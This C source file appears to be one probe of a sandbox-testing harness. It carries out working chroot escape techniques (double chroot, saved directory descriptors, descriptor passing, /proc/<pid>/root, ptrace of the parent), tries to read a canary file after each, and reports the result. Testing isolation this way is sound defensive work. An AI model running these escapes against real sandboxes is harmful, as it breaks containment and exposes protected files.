/* S16: the classic chroot escapes (root+cwd, saved directory fd, fork + fd passing over a unix socket, double chroot, /proc/<pid>/root, mount of a fresh proc, ptrace of an unchrooted process), each followed by a read of the canary. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>

/* Arguments (same order in every syscall attack):
 * 1 {nonce} 2 {scratch} 3 {canary_file} 4 {tcp_port} 5 {udp_port} 6 {supervisor_pid} 7 {runner_pid} */
static const char *NONCE = "nononce", *SCRATCH = "/tmp", *CANARY = "/nonexistent";
static int TCP_PORT = 0, UDP_PORT = 0, SUPV_PID = 0, RUNNER_PID = 0;
static int n_escaped = 0, n_denied = 0;

static __attribute__((unused)) void args(int argc, char **argv)
{
    if (argc > 1) NONCE = argv[1];
    if (argc > 2) SCRATCH = argv[2];
    if (argc > 3) CANARY = argv[3];
    if (argc > 4) TCP_PORT = atoi(argv[4]);
    if (argc > 5) UDP_PORT = atoi(argv[5]);
    if (argc > 6) SUPV_PID = atoi(argv[6]);
    if (argc > 7) RUNNER_PID = atoi(argv[7]);
    setvbuf(stdout, NULL, _IOLBF, 0);
}

/* One self-report line per probe. */
static __attribute__((unused)) void report(int escaped, const char *fmt, ...)
{
    char what[400];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(what, sizeof what, fmt, ap);
    va_end(ap);
    for (char *p = what; *p; p++)
        if (*p == '\n') *p = ' ';
    printf("GAUNTLET-REPORT %s %s %s\n", NONCE, escaped ? "escaped" : "denied", what);
    fflush(stdout);
    if (escaped) n_escaped++; else n_denied++;
}

/* Raw syscall returning -errno on failure. */
static __attribute__((unused)) long rs(long nr, long a, long b, long c, long d, long e, long f)
{
    long r = syscall(nr, a, b, c, d, e, f);
    return r == -1 ? -errno : r;
}

static __attribute__((unused)) const char *en(long r)
{
    static char buf[8][64];
    static int i;
    i = (i + 1) % 8;
    if (r >= 0) snprintf(buf[i], sizeof buf[i], "ok(%ld)", r);
    else snprintf(buf[i], sizeof buf[i], "%s", strerror((int)-r));
    return buf[i];
}

/* Print a file's first bytes (the host scans stdout for the canary token). */
static __attribute__((unused)) int dump_fd(const char *label, int fd)
{
    char buf[512];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n > 0) {
        buf[n] = 0;
        printf("[%s] read %zd bytes: %s\n", label, n, buf);
        return 1;
    }
    printf("[%s] read: %s\n", label, n < 0 ? strerror(errno) : "EOF");
    return 0;
}

static __attribute__((unused)) int try_read_path(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        printf("open %s: %s\n", path, strerror(errno));
        return 0;
    }
    int got = dump_fd(path, fd);
    close(fd);
    return got;
}

/* Run fn in a forked child bounded by alarm(secs); returns the wait status (or -1). */
static __attribute__((unused)) int in_child(int (*fn)(void *), void *arg, unsigned secs)
{
    fflush(stdout);
    pid_t p = fork();
    if (p < 0) return -1;
    if (p == 0) {
        alarm(secs);
        _exit(fn(arg) & 0xff);
    }
    int st = 0;
    if (waitpid(p, &st, 0) < 0) return -1;
    return st;
}

static __attribute__((unused)) const char *wstr(int st)
{
    static char buf[4][64];
    static int i;
    i = (i + 1) % 4;
    if (st == -1) snprintf(buf[i], sizeof buf[i], "fork failed");
    else if (WIFEXITED(st)) snprintf(buf[i], sizeof buf[i], "exit %d", WEXITSTATUS(st));
    else if (WIFSIGNALED(st)) snprintf(buf[i], sizeof buf[i], "signal %d (%s)", WTERMSIG(st), strsignal(WTERMSIG(st)));
    else snprintf(buf[i], sizeof buf[i], "status 0x%x", st);
    return buf[i];
}

/* pstat-judged attacks stay alive so the host sampler sees their status, namespaces and /dev. */
static __attribute__((unused)) void linger(void)
{
    printf("done: %d escaped, %d denied; lingering for the host sampler\n", n_escaped, n_denied);
    fflush(stdout);
    usleep(400000);
}

/* A TCP connect + send to the honeypot on 127.0.0.1 (the only address these attacks ever contact). */
static __attribute__((unused)) int tcp_hit(const char *msg)
{
    if (TCP_PORT <= 0) return 0;
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0) return 0;
    struct sockaddr_in sa = {0};
    sa.sin_family = AF_INET;
    sa.sin_port = htons((unsigned short)TCP_PORT);
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int ok = connect(s, (struct sockaddr *)&sa, sizeof sa) == 0;
    if (ok && msg) { ssize_t w = write(s, msg, strlen(msg)); (void)w; }
    printf("tcp connect 127.0.0.1:%d: %s\n", TCP_PORT, ok ? "CONNECTED" : strerror(errno));
    close(s);
    return ok;
}

/* A line of /proc/self/status (e.g. "CapEff"), value copied to out. */
static __attribute__((unused)) int status_field(const char *pid, const char *key, char *out, size_t n)
{
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%s/status", pid);
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    size_t kl = strlen(key);
    int found = 0;
    while (fgets(line, sizeof line, f)) {
        if (!strncmp(line, key, kl) && line[kl] == ':') {
            char *v = line + kl + 1;
            while (*v == ' ' || *v == '\t') v++;
            v[strcspn(v, "\n")] = 0;
            size_t vl = strlen(v);
            if (vl >= n) vl = n - 1;
            memcpy(out, v, vl);
            out[vl] = 0;
            found = 1;
            break;
        }
    }
    fclose(f);
    return found;
}

static __attribute__((unused)) unsigned long long ns_ino(const char *pid, const char *ns)
{
    char p[64];
    struct stat st;
    snprintf(p, sizeof p, "/proc/%s/ns/%s", pid, ns);
    return stat(p, &st) == 0 ? (unsigned long long)st.st_ino : 0;
}
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/mount.h>
#include <sys/ptrace.h>

static char jail[512], rel_canary[1024];

static void up_and_read(const char *how)
{
    /* walk far above whatever root we have, then read the canary absolutely and relatively */
    for (int i = 0; i < 64; i++) if (chdir("..") != 0) break;
    long r = rs(SYS_chroot, (long)".", 0, 0, 0, 0, 0);
    printf("[%s] chroot(\".\") after walking up: %s\n", how, en(r));
    int got = try_read_path(CANARY) | try_read_path(rel_canary);
    report(got || r == 0, "chroot-escape-%s%s", how, got ? " read the canary" : r == 0 ? " chroot succeeded" : "");
}

static int v_cwd(void *a)
{
    (void)a;
    long r = rs(SYS_chroot, (long)jail, 0, 0, 0, 0, 0);   /* cwd stays outside the new root */
    printf("chroot(jail) = %s\n", en(r));
    up_and_read("cwd-outside-root");
    return 0;
}

static int v_savedfd(void *a)
{
    (void)a;
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    rs(SYS_chroot, (long)jail, 0, 0, 0, 0, 0);
    if (chdir("/") != 0) printf("chdir /: %s\n", strerror(errno));
    if (fd >= 0 && fchdir(fd) == 0) printf("fchdir(saved fd) ok\n");
    up_and_read("saved-dirfd");
    int c = openat(fd, rel_canary, O_RDONLY);
    if (c >= 0) dump_fd("openat(saved fd, relative canary)", c);
    return 0;
}

static int v_double(void *a)
{
    (void)a;
    char inner[600];
    snprintf(inner, sizeof inner, "%s/inner", jail);
    mkdir(inner, 0755);
    rs(SYS_chroot, (long)jail, 0, 0, 0, 0, 0);
    if (chdir("/") != 0) return 0;
    rs(SYS_chroot, (long)"inner", 0, 0, 0, 0, 0);   /* now cwd (/) is above the root */
    up_and_read("double-chroot");
    return 0;
}

static int v_fdpass(void *a)
{
    (void)a;
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv)) return 0;
    pid_t c = fork();
    if (c == 0) {
        close(sv[0]);
        rs(SYS_chroot, (long)jail, 0, 0, 0, 0, 0);
        if (chdir("/")) _exit(0);
        char b;
        struct iovec io = {&b, 1};
        char cbuf[CMSG_SPACE(sizeof(int))];
        struct msghdr m = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
        if (recvmsg(sv[1], &m, 0) > 0 && CMSG_FIRSTHDR(&m)) {
            int fd;
            memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
            if (fchdir(fd) == 0) printf("child: fchdir(passed fd) ok\n");
            up_and_read("unix-socket-fd-pass");
        }
        _exit(0);
    }
    close(sv[1]);
    int root = open("/", O_RDONLY | O_DIRECTORY);
    char b = 'x';
    struct iovec io = {&b, 1};
    char cbuf[CMSG_SPACE(sizeof(int))];
    struct msghdr m = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
    struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
    cm->cmsg_level = SOL_SOCKET;
    cm->cmsg_type = SCM_RIGHTS;
    cm->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(cm), &root, sizeof root);
    if (sendmsg(sv[0], &m, 0) < 0) printf("sendmsg: %s\n", strerror(errno));
    waitpid(c, NULL, 0);
    return 0;
}

static int v_proc(void *a)
{
    (void)a;
    pid_t outside = getppid();
    rs(SYS_chroot, (long)jail, 0, 0, 0, 0, 0);
    if (chdir("/")) {}
    mkdir("/proc", 0755);
    long r = rs(SYS_mount, (long)"proc", (long)"/proc", (long)"proc", 0, 0, 0);
    printf("mount proc inside the jail: %s\n", en(r));
    char p[1200];
    snprintf(p, sizeof p, "/proc/%d/root%s", outside, CANARY);
    int got = try_read_path(p);
    snprintf(p, sizeof p, "/proc/1/root%s", CANARY);
    got |= try_read_path(p);
    report(got, "chroot-escape-proc-pid-root");
    return 0;
}

static int v_ptrace(void *a)
{
    (void)a;
    pid_t outside = getppid();
    rs(SYS_chroot, (long)jail, 0, 0, 0, 0, 0);
    long r = rs(SYS_ptrace, PTRACE_SEIZE, outside, 0, 0, 0, 0);
    report(r == 0, "chroot-escape-ptrace-unchrooted-parent %s", en(r));
    if (r == 0) rs(SYS_ptrace, PTRACE_DETACH, outside, 0, 0, 0, 0);
    return 0;
}

int main(int argc, char **argv)
{
    args(argc, argv);
    snprintf(jail, sizeof jail, "%s/jail-%s", SCRATCH, NONCE);
    mkdir(jail, 0755);
    /* the canary relative to "/" (used after a successful walk-up) */
    snprintf(rel_canary, sizeof rel_canary, ".%s", CANARY);
    long r = rs(SYS_chroot, (long)jail, 0, 0, 0, 0, 0);
    report(r == 0, "chroot(%s) %s", jail, en(r));
    if (r == 0) {
        /* undo in this process is impossible: everything else runs in children */
    }
    int (*fns[])(void *) = {v_cwd, v_savedfd, v_double, v_fdpass, v_proc, v_ptrace};
    for (size_t i = 0; i < sizeof fns / sizeof *fns; i++) {
        int st = in_child(fns[i], NULL, 2);
        if (!WIFEXITED(st)) printf("variant %zu: %s\n", i, wstr(st));
    }
    /* without chroot at all: the canary through the usual root-escaping paths */
    char p[1200];
    const char *pre[] = {"/proc/self/root", "/proc/1/root", "/proc/thread-self/root", "/proc/self/cwd/../../../../../.."};
    for (size_t i = 0; i < sizeof pre / sizeof *pre; i++) {
        snprintf(p, sizeof p, "%s%s", pre[i], CANARY);
        try_read_path(p);
    }
    linger();
    return 0;
}
